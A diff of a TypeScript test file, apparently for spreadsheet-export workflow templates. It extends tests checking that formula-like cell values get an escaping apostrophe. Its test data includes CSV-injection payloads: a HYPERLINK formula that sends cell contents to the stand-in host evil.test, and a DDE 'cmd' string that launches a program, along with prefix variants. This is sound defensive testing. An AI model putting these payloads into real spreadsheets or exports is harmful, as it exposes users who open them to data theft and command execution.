@@ -11,9 +11,10 @@ import { hold, STORIES } from './stories';
 const keyOf = (found: unknown) => String((found as Row)['name'] ?? found);
 const sorted = (all: unknown[]) => [...all].sort((a, b) => (keyOf(a) < keyOf(b) ? -1 : 1));
 
-it.each(STORIES)('$file', async ({ file, node: last, trigger, projects, read, steps }) => {
+it.each(STORIES)('$file', async (story) => {
+	const { file, node: last, other, trigger, projects, read, steps } = story;
 	hold(projects);
-	const draft = await example(file, { [last]: standIn });
+	const draft = await example(file, { [last]: standIn, ...(other && { [other]: standIn }) });
 	const workflow = trigger ? undefined : await stage.publish(draft);
 	for (const [act, ...expected] of steps) {
 		// What is created in the second in which the trigger began counts as existing.
@@ -54,18 +55,34 @@ it('sync-projects-to-data-table.json makes and fills the table, then keeps it', 
 	expect(others).toMatchObject([{ name: 'C' }, { name: 'D' }]);
 });
 
-/** What a spreadsheet program takes for a formula (OWASP, "CSV Injection"). */
+/** What a spreadsheet program takes for a formula (OWASP, "CSV Injection"), and what becomes of it. */
 const FORMULAS = [
 	...['=HYPERLINK("https://evil.test/?"&A1,"Open")', '+1+1', '-1+1', '@SUM(1,1)'],
-	...["=cmd|' /C calc'!A0", '\t=1+1', '\r=1+1', '\n=1+1'],
+	"=cmd|' /C calc'!A0",
+].map((formula) => [formula, `'${formula}`]);
+const IN_CELLS = [
+	...['\t', '\r', '\n'].map((start) => [`${start}=1+1`, `${start}'=1+1`]),
+	['Roadmap;=1+1', "Roadmap;'=1+1"],
+	['Roadmap; "@SUM(1)', 'Roadmap; "\'@SUM(1)'],
+	['Roadmap\n+1+1', "Roadmap\n'+1+1"],
 ];
-const HARMLESS = ['Website', 'a=b', '3-2', "It's fine", ' =1+1', ''];
+const HARMLESS = ['Website', 'a=b', '3-2; 1', "It's fine", ' =1+1', ''].map((text) => [text, text]);
+const NESTED = { meta: { note: '=1+1', more: ';=1+1' }, tags: ['=1+1'] };
 
-it(`${SPREADSHEET} puts an apostrophe before what would be a formula`, async () => {
-	hold([...FORMULAS, ...HARMLESS].map((name) => ({ name, description: name, task_count: 3 })));
+it(`${SPREADSHEET} puts an apostrophe before what would be a formula, in whichever way cells are separated`, async () => {
+	const texts = [...FORMULAS, ...IN_CELLS, ...HARMLESS];
+	hold(texts.map(([name]) => ({ name, description: name, task_count: 3, ...NESTED })));
 	const { rows } = await makeSpreadsheet(stage, await stage.create(await example(SPREADSHEET)));
-	const expected = [...FORMULAS.map((formula) => `'${formula}`), ...HARMLESS].sort();
+	const expected = texts.map(([, text]) => text).sort();
 	expect(rows.map(({ name }) => name).sort()).toEqual(expected);
 	expect(rows.map(({ description }) => description).sort()).toEqual(expected);
-	expect(new Set(rows.map((row) => row['task_count']))).toEqual(new Set(['3']));
+	const { meta, tags } = NESTED;
+	const rest = [
+		{
+			task_count: '3',
+			meta: JSON.stringify(meta).replace(';=', ";'="),
+			tags: JSON.stringify(tags),
+		},
+	];
+	expect(rows).toMatchObject(rows.flatMap(() => rest));
 });
